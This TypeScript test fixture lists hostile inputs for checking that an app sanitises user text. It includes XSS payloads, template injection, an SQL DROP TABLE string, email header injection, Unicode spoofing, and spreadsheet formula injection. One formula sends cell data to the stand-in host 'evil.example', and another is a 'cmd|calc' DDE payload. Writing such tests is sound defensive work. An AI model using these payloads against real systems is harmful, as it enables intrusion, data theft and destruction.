/** Malicious and difficult input for tests. */

/** A text that is executed would set `window.hostile` or send a request for `/hostile`. */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: '<script>window.hostile = 1</script>',
  attribute: '"><img src="/hostile" onerror="window.hostile = 1">',
  svg: '<svg/onload="window.hostile = 1"><a xlink:href="javascript:window.hostile=1">x</a></svg>',
  mutation:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/hostile onerror=hostile=1&gt;">',
  entity: '&lt;script&gt;window.hostile = 1&lt;/script&gt;',
  template: '{{constructor.constructor("hostile=1")()}} $%{hostile=1} %s %00',
  rightToLeft: 'invoice\u202Egnp.exe',
  zeroWidth: 'a\u200Bd\u2060m\uFEFFi\u00ADn',
  fourBytes: '𝕬𝖉𝖆 👩‍👩‍👧‍👦 🏴 Z͑ͫ̓a̢̰l̡g̨o',
  sql: "Robert'); DROP TABLE users; --",
  lineBreak: 'First\r\nBcc: everybody@launchpad.test',
  formula: '=HYPERLINK("http://evil.example?"&A1,"open")',
  formulaPlus: '+1+cmd|calc!A1',
  formulaMinus: '-2+3',
  formulaAt: '@SUM(A1:A9)',
  long: 'x'.repeat(10_000),
};

/** Stacked marks that cover the lines above and below. Refused everywhere (functions/api/text.shared.ts). */
export const zalgo = `Z${'\u0351\u036B\u0343\u0322'.repeat(8)}algo`;

/** A text as it is stored: line breaks are one character, and direction controls are removed. */
export const asKept = (text: string) => text.replaceAll('\r\n', '\n').replaceAll('\u202E', '');
